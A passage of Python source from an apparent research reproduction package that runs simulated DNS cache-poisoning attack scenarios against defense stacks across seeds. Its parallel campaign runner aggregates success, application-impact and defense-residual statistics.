                f"{spec.name} expects a {spec.config_cls.__name__},"
                f" got {type(self.attack_config).__name__}")
        if world is None:
            world = self.make_world(seed=seed)
        attacker = OffPathAttacker(world["attacker"])
        app_driver = None
        app_ctx = None
        runtime = self
        if self.app_spec is not None:
            from repro.apps.driver import resolve_driver

            app_driver = resolve_driver(self.app_spec.app)
            if spec.name not in app_driver.methods:
                raise ScenarioError(
                    f"app {self.app_spec.app!r} cannot observe records "
                    f"planted by {spec.name} (its workload needs "
                    f"{', '.join(app_driver.methods)})")
            qname = self.effective_qname()
            if not self.malicious_records:
                # The driver knows which records its workload consumes
                # (the A mapping plus any TXT/IPSECKEY extras); the
                # attack plants exactly that set.
                runtime = replace(self, malicious_records=tuple(
                    app_driver.malicious_records(qname, attacker.address)))
            app_ctx = app_driver.setup(
                world, qname, runtime.planted_address(attacker.address),
                **self.app_spec.kwargs())
        trigger = self.trigger.build(
            world, attacker,
            app_stage=(app_driver, app_ctx)
            if app_driver is not None else None)
        attack = spec.attack_factory(runtime, world, attacker)
        load_engine = None
        if self.workload is not None:
            from repro.workload.engine import WorkloadEngine

            load_engine = WorkloadEngine(self.workload, world,
                                         self.effective_qname())
            load_engine.install()
        return BuiltScenario(scenario=self, seed=seed, world=world,
                             attacker=attacker, trigger=trigger,
                             attack=attack, app_driver=app_driver,
                             app_ctx=app_ctx, load_engine=load_engine)

    def run(self, seed: Any = 0) -> ScenarioRun:
        """Build a fresh world for ``seed`` and execute the attack."""
        return self.build(seed=seed).execute()

    def variants(self, **axes: Iterable[Any]) -> list["AttackScenario"]:
        """Expand a config grid: one scenario per combination of axes.

        Each keyword names a scenario field; each value is an iterable
        of settings for that field.  The cartesian product is returned
        with labels recording the grid point, ready for
        :meth:`repro.scenario.campaign.Campaign.run`.
        """
        valid = {f.name for f in fields(self)}
        for name in axes:
            if name not in valid:
                raise ScenarioError(f"unknown scenario field: {name!r}")
        grid: list[AttackScenario] = [self]
        for name, values in axes.items():
            values = list(values)
            if not values:
                raise ScenarioError(f"empty axis: {name!r}")
            expanded: list[AttackScenario] = []
            for point in grid:
                for value in values:
                    changes: dict[str, Any] = {name: value}
                    if name != "label" and len(values) > 1:
                        changes["label"] = (
                            f"{point.display_label} {name}={value!r}")
                    expanded.append(replace(point, **changes))
            grid = expanded
        return grid


@dataclass
class BuiltScenario:
    """A scenario materialised against one concrete world."""

    scenario: AttackScenario
    seed: Any
    world: dict
    attacker: OffPathAttacker
    trigger: QueryTrigger
    attack: Any
    app_driver: AppDriver | None = None
    app_ctx: dict | None = None
    load_engine: Any = None

    @property
    def testbed(self):
        return self.world["testbed"]

    @property
    def network(self):
        return self.world["testbed"].network

    @property
    def resolver(self):
        return self.world["resolver"]

    @property
    def target(self):
        return self.world["target"]

    def execute(self) -> ScenarioRun:
        """Run the kill chain: load warmup, attack phase, app stage."""
        started = time.perf_counter()
        if self.load_engine is not None:
            # Prime the cache and start the benign arrivals before the
            # attack fires: load and attack traffic share the scheduler,
            # so they interleave exactly as on a busy resolver.
            self.load_engine.begin()
        result = self.attack.execute(
            self.trigger, qname=self.scenario.effective_qname())
        app_result = None
        if self.app_driver is not None:
            # The victim application operates against whatever world the
            # attack left behind — poisoned cache or not, the workload
            # and its impact classification run identically.  First let
            # the network settle past the kernel reassembly timeout so
            # planted-but-unused fragments age out of reassembly caches
            # (Linux keeps partials ~30s) instead of corrupting the
            # app's own fragmented responses.
            from repro.netsim.fragmentation import LINUX_FRAG_TIMEOUT

            self.network.run(LINUX_FRAG_TIMEOUT + 1.0)
            app_result = self.app_driver.run_stage(self.app_ctx)
        load_report = None
        if self.load_engine is not None:
            # Drain the remaining arrivals (plus the client-timeout
            # tail) and collect what the benign population experienced.
            # An empty trace (qps=0) yields no report: the run is the
            # idle-world baseline, bit for bit.
            report = self.load_engine.finish()
            if self.load_engine.active:
                load_report = report
        network = self.network
        if network.fault_injector is not None:
            # Only when a plan is installed, so fault-free runs carry a
            # byte-identical detail payload.
            result.detail["faults"] = {
                "dropped": network.stats.faults_dropped,
                "delayed": network.stats.faults_delayed,
                "duplicated": network.stats.faults_duplicated,
            }
        wall_time = time.perf_counter() - started
        if OBS.enabled:
            # End-of-run mirror only: the simulator hot loop stays
            # untouched; everything here reads counters the run
            # already kept.
            observe_scheduler(network.scheduler, wall_time=wall_time)
            if network.fault_injector is not None:
                OBS.counter("faults.dropped_total").inc(
                    network.stats.faults_dropped)
                OBS.counter("faults.delayed_total").inc(
                    network.stats.faults_delayed)
                OBS.counter("faults.duplicated_total").inc(
                    network.stats.faults_duplicated)
        return ScenarioRun(
            label=self.scenario.display_label,
            method=self.scenario.canonical_method,
            seed=self.seed,
            result=result,
            wall_time=wall_time,
            app_result=app_result,
            defense=self.scenario.defense_key,
            load_report=load_report,
        )
