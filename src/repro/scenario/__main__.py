"""Entry point for ``python -m repro.scenario``."""

import sys

from repro.scenario.cli import main

if __name__ == "__main__":
    sys.exit(main())
