"""Campaign runner: sweep scenarios across seeds on worker processes.

Each seed builds an independent deterministic testbed, so a campaign is
embarrassingly parallel: the scenario (pure data) is shipped to a
``concurrent.futures`` worker which builds the world, runs the attack,
and returns the :class:`repro.scenario.spec.ScenarioRun`.  Results are
bit-identical across the serial, thread and process executors — the RNG
streams depend only on the seed, never on scheduling — which is what
lets the Table 6 statistics scale out without changing a single number.

The aggregated :class:`CampaignResult` carries success rates, packet
and duration percentiles, and per-method/per-label breakdowns: the raw
material of the paper's Table 6 rows.
"""

from __future__ import annotations

import functools
import pickle
from concurrent.futures import ProcessPoolExecutor, ThreadPoolExecutor
from dataclasses import dataclass, field, replace
from typing import Any, Iterable, Sequence

from repro.core.errors import ScenarioError
from repro.defenses.base import DefenseStack
from repro.faults.policy import RunPolicy, execute_cell
from repro.obs import OBS, ObsChunk
from repro.obs.profile import stage
from repro.scenario.spec import AttackScenario, ScenarioRun
from repro.workload.report import LoadReport

EXECUTORS = ("process", "thread", "serial")


def percentile(values: Sequence[float], q: float) -> float:
    """Linear-interpolated percentile (``q`` in [0, 1]) of ``values``."""
    if not values:
        return 0.0
    if not 0.0 <= q <= 1.0:
        raise ValueError(f"percentile out of range: {q}")
    ordered = sorted(values)
    position = (len(ordered) - 1) * q
    low = int(position)
    high = min(low + 1, len(ordered) - 1)
    fraction = position - low
    return ordered[low] + (ordered[high] - ordered[low]) * fraction


def _execute_task(task: tuple[AttackScenario, Any],
                  policy: RunPolicy | None = None) -> ScenarioRun:
    """Worker entry point: one (scenario, seed) cell of the sweep."""
    scenario, seed = task
    return execute_cell(scenario, seed, policy)


# -- shared-world workers ----------------------------------------------------
#
# The sweep's world template — the distinct scenario table — is the
# only expensive pickle in a campaign.  The process pool's initializer
# materialises it exactly once per worker process; every batch after
# that references its scenario by table index, and the per-seed RNG is
# rederived in place by the deterministic testbed the cell builds.
# (The old path re-pickled the scenario with every batch submitted.)

_WORKER_WORLD: tuple[list[AttackScenario], RunPolicy | None] = ([], None)


def _init_worker(payload: bytes) -> None:
    """Unpack the (scenario table, policy) world once per worker.

    With the obs plane on, the payload grows a third element — the
    coordinator's ``(trace_id, parent_id)`` — which the worker adopts
    so its cell spans join the sweep's trace.  Disabled sweeps ship
    the same two-tuple bytes they always did.
    """
    global _WORKER_WORLD
    world = pickle.loads(payload)
    if len(world) == 3:
        table, policy, obs_ctx = world
        OBS.adopt(obs_ctx)
        _WORKER_WORLD = (table, policy)
    else:
        _WORKER_WORLD = world


def _execute_shared(batch: tuple[int, tuple[Any, ...]]):
    """Worker entry point: (scenario-table index, seed batch).

    When the plane is on, the batch runs under a ``campaign.batch``
    span and comes back wrapped in an :class:`repro.obs.ObsChunk`
    carrying this worker's metric/span delta; the coordinator absorbs
    it in ``merge_chunk``.  Off, the raw run list travels unchanged.
    """
    index, seeds = batch
    scenarios, policy = _WORKER_WORLD
    scenario = scenarios[index]
    if not OBS.enabled:
        return [execute_cell(scenario, seed, policy) for seed in seeds]
    with OBS.span("campaign.batch", table_index=str(index),
                  cells=len(seeds)):
        runs = [execute_cell(scenario, seed, policy) for seed in seeds]
    return ObsChunk(runs=runs, payload=OBS.flush())


def _execute_indexed(batch: tuple[int, tuple[Any, ...]],
                     table: Sequence[AttackScenario],
                     policy: RunPolicy | None = None) -> list[ScenarioRun]:
    """Thread-executor twin of :func:`_execute_shared`: same batch
    shape, but the table is shared by reference (no process boundary),
    so spans/metrics land in the coordinator's registry directly."""
    index, seeds = batch
    if not OBS.enabled:
        return [execute_cell(table[index], seed, policy)
                for seed in seeds]
    with OBS.span("campaign.batch", table_index=str(index),
                  cells=len(seeds)):
        return [execute_cell(table[index], seed, policy)
                for seed in seeds]


def _batch_tasks(tasks: list[tuple[AttackScenario, Any]],
                 workers: int) -> tuple[list[AttackScenario],
                                        list[tuple[int, tuple[Any, ...]]]]:
    """Group tasks into (table-index, seed-batch) units, order-preserving.

    Consecutive tasks sharing one scenario object form a group; each
    group is split into batches sized like the old per-task chunking
    (``len / (workers * 4)``) so the pool still load-balances.
    Returns the distinct scenario table plus the batches: a batch names
    its scenario by table index, so shipping the table once (via the
    worker initializer) is enough to execute every batch.  Flattening
    the batched results in order reproduces the serial run order
    exactly, which keeps every executor bit-identical.
    """
    batch_size = max(1, len(tasks) // (max(workers, 1) * 4))
    table: list[AttackScenario] = []
    batches: list[tuple[int, tuple[Any, ...]]] = []
    index = 0
    while index < len(tasks):
        scenario = tasks[index][0]
        group_end = index
        while group_end < len(tasks) and tasks[group_end][0] is scenario:
            group_end += 1
        table_index = len(table)
        table.append(scenario)
        for start in range(index, group_end, batch_size):
            seeds = tuple(seed for _scenario, seed in
                          tasks[start:min(start + batch_size, group_end)])
            batches.append((table_index, seeds))
        index = group_end
    return table, batches


@dataclass
class MethodSummary:
    """Aggregates for one methodology (or one scenario label / app).

    Beyond the attack-phase statistics, kill-chain runs contribute
    application-impact aggregates: how often the Table 1 impact was
    actually realized, split by impact class (the §4.5 story —
    fraudulent certificates, downgrades, account takeovers).
    """

    key: str
    runs: int = 0
    successes: int = 0
    failures: int = 0           # cells that could not execute at all
    packets: list[int] = field(default_factory=list)
    queries: list[int] = field(default_factory=list)
    durations: list[float] = field(default_factory=list)
    # -- application impact ----------------------------------------------------
    app_runs: int = 0
    impact: str = ""            # the group's Table 1 impact cell
    impacts_realized: int = 0
    hijacks: int = 0
    downgrades: int = 0
    denials: int = 0
    fraud_certs: int = 0
    takeovers: int = 0
    # -- benign load -----------------------------------------------------------
    loads: list[LoadReport] = field(default_factory=list)

    def note(self, run: ScenarioRun) -> None:
        self.runs += 1
        self.successes += 1 if run.success else 0
        # Table 6's MethodStats also feeds bare AttackResults through
        # here; only real ScenarioRuns can carry a recorded failure.
        if getattr(run, "failed", False):
            self.failures += 1
        self.packets.append(run.packets_sent)
        self.queries.append(run.queries_triggered)
        self.durations.append(run.duration)
        report = getattr(run, "load_report", None)
        if report is not None:
            self.loads.append(report)
        # Table 6's MethodStats feeds bare AttackResults through here,
        # which carry no application stage.
        stage = getattr(run, "app_result", None)
        if stage is None:
            return
        self.app_runs += 1
        self.impact = stage.impact
        if not stage.realized:
            return
        self.impacts_realized += 1
        if stage.impact_class == "Hijack":
            self.hijacks += 1
        elif stage.impact_class == "Downgrade":
            self.downgrades += 1
        elif stage.impact_class == "DoS":
            self.denials += 1
        if stage.fraud_certificate:
            self.fraud_certs += 1
        if stage.takeover:
            self.takeovers += 1

    @property
    def success_rate(self) -> float:
        return self.successes / self.runs if self.runs else 0.0

    @property
    def impact_rate(self) -> float:
        """Realized-impact fraction across this group's app stages."""
        return self.impacts_realized / self.app_runs if self.app_runs \
            else 0.0

    @property
    def fraud_cert_rate(self) -> float:
        return self.fraud_certs / self.app_runs if self.app_runs else 0.0

    @property
    def downgrade_rate(self) -> float:
        return self.downgrades / self.app_runs if self.app_runs else 0.0

    @property
    def takeover_rate(self) -> float:
        return self.takeovers / self.app_runs if self.app_runs else 0.0

    @property
    def load(self) -> LoadReport | None:
        """This group's merged benign-load report (None when unloaded)."""
        if not self.loads:
            return None
        return LoadReport.merge(self.loads, label=self.key)

    @property
    def hitrate(self) -> float:
        """Per-triggered-query success probability (Table 6's metric)."""
        total = sum(self.queries)
        return self.successes / total if total else 0.0

    @property
    def mean_packets(self) -> float:
        return sum(self.packets) / len(self.packets) if self.packets else 0.0

    @property
    def mean_queries(self) -> float:
        return sum(self.queries) / len(self.queries) if self.queries else 0.0

    def packets_percentile(self, q: float) -> float:
        return percentile(self.packets, q)

    def duration_percentile(self, q: float) -> float:
        return percentile(self.durations, q)


@dataclass
class CampaignResult:
    """Everything a campaign measured, with Table 6-style aggregates."""

    runs: list[ScenarioRun]
    wall_clock: float
    workers: int
    executor: str
    notes: list[str] = field(default_factory=list)
    #: Streaming :class:`repro.store.RunTotals` over the whole sweep:
    #: cached cells fold in at load time and executed chunks fold in as
    #: they complete on the pool, so the totals exist without any
    #: end-of-run pass over ``runs`` (None on reconstructed results).
    totals: Any = None

    @property
    def successes(self) -> int:
        return sum(1 for run in self.runs if run.success)

    @property
    def success_rate(self) -> float:
        return self.successes / len(self.runs) if self.runs else 0.0

    @property
    def failures(self) -> int:
        """Cells recorded as failed (RunPolicy degradation) rather
        than executed."""
        return sum(1 for run in self.runs if run.failed)

    def failed_runs(self) -> list[ScenarioRun]:
        """The recorded failures, in run order."""
        return [run for run in self.runs if run.failed]

    def _group(self, key_fn) -> dict[str, MethodSummary]:
        groups: dict[str, MethodSummary] = {}
        for run in self.runs:
            key = key_fn(run)
            groups.setdefault(key, MethodSummary(key=key)).note(run)
        return groups

    def by_method(self) -> dict[str, MethodSummary]:
        """Per-methodology breakdown across all scenarios and seeds."""
        return self._group(lambda run: run.method)

    def by_label(self) -> dict[str, MethodSummary]:
        """Per-scenario breakdown (distinguishes grid points)."""
        return self._group(lambda run: run.label)

    def by_app(self) -> dict[str, MethodSummary]:
        """Per-application impact breakdown (kill-chain runs only)."""
        groups: dict[str, MethodSummary] = {}
        for run in self.runs:
            if run.app_result is None:
                continue
            key = run.app_result.app
            groups.setdefault(key, MethodSummary(key=key)).note(run)
        return groups

    def by_defense(self) -> dict[str, MethodSummary]:
        """Per-defense-stack breakdown across all methods and seeds."""
        return self._group(lambda run: run.defense)

    def defense_matrix(self) -> dict[tuple[str, str], MethodSummary]:
        """The (defense stack, method) grid of residual statistics.

        Keys are ``(stack_key, method)``; each summary's
        ``success_rate`` is the *residual* success the stack leaves that
        methodology, and ``impact_rate`` the residual kill-chain impact
        (when the runs carried an application stage).  The ``"none"``
        row is the undefended baseline to read the residuals against.
        """
        groups: dict[tuple[str, str], MethodSummary] = {}
        for run in self.runs:
            key = (run.defense, run.method)
            groups.setdefault(
                key, MethodSummary(key=f"{run.method} vs {run.defense}")
            ).note(run)
        return groups

    @property
    def defended(self) -> bool:
        """Whether any run in the campaign deployed a defense stack."""
        return any(run.defense != "none" for run in self.runs)

    @property
    def loaded(self) -> bool:
        """Whether any run carried a benign-traffic workload."""
        return any(run.load_report is not None for run in self.runs)

    def load_report(self) -> LoadReport | None:
        """All runs' benign-load experience merged (None when unloaded)."""
        reports = [run.load_report for run in self.runs
                   if run.load_report is not None]
        if not reports:
            return None
        return LoadReport.merge(reports, label="campaign")

    @property
    def app_runs(self) -> int:
        """How many runs carried an application stage."""
        return sum(1 for run in self.runs if run.app_result is not None)

    @property
    def impacts_realized(self) -> int:
        return sum(1 for run in self.runs if run.impact_realized)

    @property
    def impact_rate(self) -> float:
        """Realized-impact fraction across all app stages in the sweep."""
        app_runs = self.app_runs
        return self.impacts_realized / app_runs if app_runs else 0.0

    def duration_percentiles(self) -> dict[str, float]:
        values = [run.duration for run in self.runs]
        return {"p50": percentile(values, 0.50),
                "p90": percentile(values, 0.90),
                "p99": percentile(values, 0.99)}

    def packet_percentiles(self) -> dict[str, float]:
        values = [run.packets_sent for run in self.runs]
        return {"p50": percentile(values, 0.50),
                "p90": percentile(values, 0.90),
                "p99": percentile(values, 0.99)}

    def describe(self) -> str:
        """Rendered per-label summary table plus the campaign footer."""
        # Imported here: the measurements package itself declares its
        # trials through this module, so a top-level import would cycle.
        from repro.measurements.report import render_table

        headers = ["Scenario", "Runs", "Success", "Hitrate",
                   "Packets p50/p99", "Duration p50/p99 (s)"]
        rows = []
        by_label = self.by_label()
        for key in sorted(by_label):
            summary = by_label[key]
            rows.append([
                key, summary.runs,
                f"{summary.success_rate * 100:.0f}%",
                f"{summary.hitrate * 100:.2f}%",
                f"{summary.packets_percentile(0.5):,.0f} / "
                f"{summary.packets_percentile(0.99):,.0f}",
                f"{summary.duration_percentile(0.5):.1f} / "
                f"{summary.duration_percentile(0.99):.1f}",
            ])
        table = render_table(headers, rows, title="Campaign summary")
        sections = [table]
        if self.defended:
            matrix = self.defense_matrix()
            defense_rows = []
            ordered = sorted(matrix,
                             key=lambda key: (key[0] != "none", key))
            for stack_key, method in ordered:
                summary = matrix[(stack_key, method)]
                row = [stack_key, method, summary.runs,
                       f"{summary.success_rate * 100:.0f}%"]
                row.append(f"{summary.impact_rate * 100:.0f}%"
                           if summary.app_runs else "-")
                defense_rows.append(row)
            sections.append(render_table(
                ["Defense stack", "Method", "Runs", "Residual success",
                 "Residual impact"],
                defense_rows, title="Defense residuals"))
        by_app = self.by_app()
        if by_app:
            impact_headers = ["Application", "Impact", "Stages",
                              "Realized", "Fraud certs", "Downgrades",
                              "Takeovers"]
            impact_rows = []
            for key in sorted(by_app):
                summary = by_app[key]
                impact_rows.append([
                    key, summary.impact, summary.app_runs,
                    f"{summary.impact_rate * 100:.0f}%",
                    summary.fraud_certs, summary.downgrades,
                    summary.takeovers,
                ])
            sections.append(render_table(impact_headers, impact_rows,
                                         title="Application impact"))
        if self.loaded:
            load_rows = []
            for key in sorted(by_label):
                merged = by_label[key].load
                if merged is None:
                    continue
                load_rows.append([key] + merged.summary_row())
            sections.append(render_table(
                ["Scenario"] + LoadReport.summary_headers(), load_rows,
                title="Benign load during the attack"))
        failed = self.failed_runs()
        if failed:
            sections.append(render_table(
                ["Scenario", "Seed", "Error"],
                [[run.label, run.seed, run.error] for run in failed],
                title="Failed cells (recorded, not executed)"))
        footer = (f"{len(self.runs)} runs in {self.wall_clock:.1f}s wall"
                  f" ({self.executor}, workers={self.workers})")
        if failed:
            footer += f"\n{len(failed)} cells failed and were recorded"
        if self.notes:
            footer += "\n" + "\n".join(f"note: {note}" for note in self.notes)
        sections.append(footer)
        return "\n".join(sections)


class Campaign:
    """Run scenarios across seeds (and config grids) in parallel.

    ``executor`` selects the ``concurrent.futures`` backend:
    ``"process"`` (default; true parallelism, scenarios must pickle),
    ``"thread"`` (shared process; useful for callable triggers), or
    ``"serial"`` (the reference loop the parallel paths must match).

    ``workers`` accepts a count, ``"auto"`` (every schedulable CPU) or
    ``None`` (the historical capped default); the ``REPRO_WORKERS``
    environment variable overrides the defaults — see
    :func:`repro.parallel.workers.resolve_workers`.  The process
    executor ships the sweep's distinct-scenario table to each worker
    exactly once (pool initializer) and steals work batch by batch, so
    a slow cell never idles the rest of the pool.

    ``policy`` (a :class:`repro.faults.RunPolicy`) makes the sweep
    degrade gracefully: each cell gets a scheduler watchdog, transient
    failures retry with backoff, and a raising cell becomes a recorded
    failed run instead of killing the grid.  Without one, exceptions
    propagate exactly as before.
    """

    def __init__(self, workers: int | str | None = None,
                 executor: str = "process",
                 policy: RunPolicy | None = None):
        if executor not in EXECUTORS:
            raise ScenarioError(
                f"unknown executor {executor!r}; pick one of {EXECUTORS}")
        self.workers = workers
        self.executor = executor
        self.policy = policy

    def run(self,
            scenarios: AttackScenario | Iterable[AttackScenario],
            seeds: Iterable[Any] = range(8),
            workers: int | str | None = None,
            executor: str | None = None,
            store: Any = None,
            policy: RunPolicy | None = None) -> CampaignResult:
        """Execute every (scenario, seed) cell and aggregate.

        ``seeds`` may hold ints or strings; each is passed verbatim to
        the scenario's deterministic testbed, so a campaign over
        ``range(32)`` is 32 statistically independent trials that any
        executor reproduces bit-identically.

        ``store`` (a :class:`repro.store.RunStore` or a path) makes the
        sweep durable and resumable: every executed cell is appended to
        the store, and cells whose ``(spec_hash, seed, defense)`` key
        is already stored are loaded instead of re-run — so a killed
        sweep re-invoked with the same store recomputes only what is
        missing and still aggregates bit-identically.
        """
        if isinstance(scenarios, AttackScenario):
            scenarios = [scenarios]
        scenarios = list(scenarios)
        if not scenarios:
            raise ScenarioError("no scenarios to run")
        seeds = list(seeds)
        if not seeds:
            raise ScenarioError("no seeds to run")
        return self.run_pairs(
            [(scenario, seed) for scenario in scenarios for seed in seeds],
            workers=workers, executor=executor, store=store, policy=policy,
        )

    def run_pairs(self,
                  pairs: Iterable[tuple[AttackScenario, Any]],
                  workers: int | str | None = None,
                  executor: str | None = None,
                  store: Any = None,
                  policy: RunPolicy | None = None) -> CampaignResult:
        """Execute explicit (scenario, seed) cells on one worker pool.

        The general form of :meth:`run` for ragged sweeps — e.g. four
        trial groups with different seed lists scheduled across one
        process pool instead of one pool per group.  ``store`` behaves
        as in :meth:`run`: stored cells are loaded, fresh cells are
        executed and appended as their results arrive (in the
        submitting process — the store never crosses a pool boundary).
        """
        tasks = list(pairs)
        if not tasks:
            raise ScenarioError("no scenario/seed pairs to run")
        kind = executor if executor is not None else self.executor
        if kind not in EXECUTORS:
            raise ScenarioError(
                f"unknown executor {kind!r}; pick one of {EXECUTORS}")
        # Imported here: the parallel package's claim module reaches
        # back through the atlas (whose calibration bridge imports this
        # module), so a top-level import would cycle.
        from repro.parallel.scheduler import run_stealing
        from repro.parallel.workers import resolve_workers
        from repro.store.aggregate import RunTotals

        count = workers if workers is not None else self.workers
        try:
            # None keeps the old min(8, cpus) default; "auto" and the
            # REPRO_WORKERS override resolve through the shared
            # parallel-plane resolver like every other entry point.
            count = resolve_workers(count)
        except ValueError as error:
            raise ScenarioError(str(error)) from None
        if policy is None:
            policy = self.policy
        notes: list[str] = []
        cached: dict[int, ScenarioRun] = {}
        missing = tasks
        spec_hashes: dict[int, str] = {}
        workload_hashes: dict[int, str] = {}
        if store is not None:
            # Imported here: the store schema imports the scenario spec,
            # so a top-level import would cycle through the package.
            from repro.store.db import RunStore
            from repro.store.schema import (scenario_spec_hash, seed_key,
                                            workload_spec_hash)

            store = RunStore.open(store)
            keys = []
            for scenario, seed in tasks:
                marker = id(scenario)
                if marker not in spec_hashes:
                    spec_hashes[marker] = scenario_spec_hash(scenario)
                    workload_hashes[marker] = \
                        workload_spec_hash(scenario.workload)
                keys.append((spec_hashes[marker], seed_key(seed),
                             scenario.defense_key))
            stored = store.load_cells(spec_hashes.values())
            missing = []
            requeued_failures = 0
            for index, (task, key) in enumerate(zip(tasks, keys)):
                record = stored.get(key)
                if record is not None and not record.failed:
                    cached[index] = record.to_run()
                else:
                    # Failed records don't satisfy a cell: the resume
                    # re-executes them, and an ok result heals the
                    # stored failure in place (see RunStore.record).
                    if record is not None:
                        requeued_failures += 1
                    missing.append(task)
            if cached:
                notes.append(
                    f"store: {len(cached)}/{len(tasks)} cells loaded "
                    f"from {store.path}")
            if requeued_failures:
                notes.append(
                    f"store: {requeued_failures} failed cells re-queued")
        if not missing:
            kind = "serial"     # fully cached: nothing to execute
        elif kind != "serial" and (count == 1 or len(missing) == 1):
            notes.append(
                f"{kind} executor downgraded to serial"
                f" ({'one worker' if count == 1 else 'one task'})")
            kind = "serial"
        if kind == "process" and not _picklable(missing):
            notes.append(
                "scenario not picklable (callable trigger?);"
                " fell back to the thread executor")
            kind = "thread"
        totals = RunTotals(key="campaign")
        for run in cached.values():
            totals.note_run(run)
        sweep_span = None
        if OBS.enabled:
            sweep_span = OBS.spans.start(
                "campaign.sweep", cells=len(tasks),
                missing=len(missing), executor=kind, workers=count)
            OBS.counter("campaign.sweeps_total").inc()
            if cached:
                OBS.counter("campaign.cached_cells_total").inc(
                    len(cached))
        prev_ambient = OBS.spans.ambient_parent
        try:
            with stage("campaign.sweep", executor=kind) as timer:
                if kind == "serial":
                    fresh = []
                    for task in missing:
                        run = _execute_task(task, policy)
                        _record_run(store, run, task[0], spec_hashes,
                                    workload_hashes)
                        totals.note_run(run)
                        fresh.append(run)
                else:
                    # Batches name their scenario by table index; the
                    # table itself crosses the process boundary exactly
                    # once, inside the worker initializer (pickled here
                    # once so the pool ships identical bytes to every
                    # worker instead of re-serialising the world per
                    # worker, let alone per batch).
                    table, batches = _batch_tasks(missing, count)
                    if kind == "thread":
                        pool_cls: Any = ThreadPoolExecutor
                        pool_kwargs: dict[str, Any] = {}
                        execute: Any = functools.partial(
                            _execute_indexed, table=table, policy=policy)
                        if sweep_span is not None:
                            # Pool threads have empty span stacks; the
                            # ambient parent nests their batch spans
                            # under this sweep.
                            OBS.spans.ambient_parent = sweep_span.span_id
                    else:
                        world: tuple = (table, policy)
                        if OBS.enabled:
                            world = (table, policy, OBS.worker_context())
                        pool_cls = ProcessPoolExecutor
                        pool_kwargs = {
                            "initializer": _init_worker,
                            "initargs": (pickle.dumps(world),),
                        }
                        execute = _execute_shared

                    def merge_chunk(index: int, chunk) -> None:
                        # Fires in *completion* order: every finished
                        # batch is durable and folded into the streaming
                        # totals before later batches land, so a killed
                        # sweep resumes with only the missing/failed
                        # cells and the aggregate never waits on an
                        # end-of-run barrier list.  Worker obs deltas
                        # are absorbed here, also exactly once.
                        runs = OBS.absorb_chunk(chunk)
                        _record_chunk(store, runs,
                                      table[batches[index][0]],
                                      spec_hashes, workload_hashes)
                        for run in runs:
                            totals.note_run(run)

                    with pool_cls(max_workers=count, **pool_kwargs) as pool:
                        ordered = run_stealing(pool, execute, batches,
                                               window=2 * count,
                                               on_result=merge_chunk)
                    fresh = [run for chunk in ordered
                             for run in OBS.chunk_runs(chunk)]
        finally:
            OBS.spans.ambient_parent = prev_ambient
            if sweep_span is not None:
                OBS.spans.finish(sweep_span)
        wall_clock = timer.elapsed
        # Reassemble in original task order: batching preserves the
        # missing-task order, so splicing fresh runs into the cached
        # gaps reproduces the uninterrupted sweep's run list exactly.
        fresh_iter = iter(fresh)
        runs = [cached[index] if index in cached else next(fresh_iter)
                for index in range(len(tasks))]
        return CampaignResult(runs=runs, wall_clock=wall_clock,
                              workers=count, executor=kind, notes=notes,
                              totals=totals)

    def run_grid(self, base: AttackScenario,
                 axes: dict[str, Iterable[Any]],
                 seeds: Iterable[Any] = range(8),
                 workers: int | str | None = None,
                 executor: str | None = None,
                 store: Any = None,
                 policy: RunPolicy | None = None) -> CampaignResult:
        """Sweep a config grid: every axis combination times every seed."""
        return self.run(base.variants(**axes), seeds=seeds,
                        workers=workers, executor=executor, store=store,
                        policy=policy)

    def run_defended(self,
                     scenarios: AttackScenario | Iterable[AttackScenario],
                     stacks: Iterable[Any],
                     seeds: Iterable[Any] = range(8),
                     include_undefended: bool = True,
                     workers: int | str | None = None,
                     executor: str | None = None,
                     store: Any = None,
                     policy: RunPolicy | None = None) -> CampaignResult:
        """Sweep a (scenario x defense-stack x seed) grid on one pool.

        ``stacks`` may hold :class:`repro.defenses.DefenseStack`
        objects, single defenses, or names (``"dnssec"``); each becomes
        one column of the grid.  ``include_undefended`` prepends the
        empty stack so every residual reads against its baseline.  The
        result's :meth:`CampaignResult.defense_matrix` then reports
        residual success and residual kill-chain impact per stack —
        bit-identically across the serial/thread/process executors,
        like every other campaign.
        """
        if isinstance(scenarios, AttackScenario):
            scenarios = [scenarios]
        scenarios = list(scenarios)
        if isinstance(stacks, (str, DefenseStack)):
            # A lone "dnssec" must not be iterated character by
            # character (mirrors run()'s single-scenario guard).
            stacks = [stacks]
        resolved = []
        for stack in stacks:
            if isinstance(stack, DefenseStack):
                resolved.append(stack)
            elif isinstance(stack, str):
                # parse() accepts the canonical composite spelling
                # ("dnssec+rpki-rov", "none"), so stack keys read off a
                # defense_matrix() or a ScenarioRun round-trip.
                resolved.append(DefenseStack.parse(stack))
            else:
                resolved.append(DefenseStack.of(stack))
        if not resolved:
            raise ScenarioError("no defense stacks to sweep")
        if include_undefended and not any(not stack for stack in resolved):
            resolved.insert(0, DefenseStack())
        cells = [
            replace(scenario,
                    defenses=stack if stack else None,
                    label=f"{scenario.display_label} vs {stack.key}")
            for scenario in scenarios
            for stack in resolved
        ]
        return self.run(cells, seeds=seeds, workers=workers,
                        executor=executor, store=store, policy=policy)


def _record_run(store: Any, run: ScenarioRun, scenario: AttackScenario,
                spec_hashes: dict[int, str],
                workload_hashes: dict[int, str]) -> None:
    """Append one finished cell to the run store (no-op without one)."""
    if store is None:
        return
    from repro.store.schema import RunRecord

    marker = id(scenario)
    store.record(RunRecord.from_run(
        run, spec_hash=spec_hashes[marker],
        workload_hash=workload_hashes[marker]))


def _record_chunk(store: Any, runs: list[ScenarioRun],
                  scenario: AttackScenario,
                  spec_hashes: dict[int, str],
                  workload_hashes: dict[int, str]) -> None:
    """Persist one completed batch in a single transaction."""
    if store is None or not runs:
        return
    from repro.store.schema import RunRecord

    marker = id(scenario)
    store.record_many([
        RunRecord.from_run(run, spec_hash=spec_hashes[marker],
                           workload_hash=workload_hashes[marker])
        for run in runs])


def _picklable(tasks: list[tuple[AttackScenario, Any]]) -> bool:
    # Probe one representative task per distinct scenario object: the
    # pool pickles everything again anyway, so serialising the whole
    # sweep here would just double that work.
    probes: dict[int, tuple[AttackScenario, Any]] = {}
    for task in tasks:
        probes.setdefault(id(task[0]), task)
    try:
        pickle.dumps(list(probes.values()))
    except Exception:
        return False
    return True
