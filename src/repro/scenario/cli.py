"""``python -m repro.scenario`` — kill-chain campaigns from the shell.

Mirrors the atlas CLI: three subcommands make attack and kill-chain
campaigns scriptable without writing python.

* ``run`` — execute one scenario (optionally with an application
  stage) on one seed and narrate the outcome.
* ``sweep`` — run a kill-chain campaign over applications x methods x
  seeds on a worker pool; print the campaign and application-impact
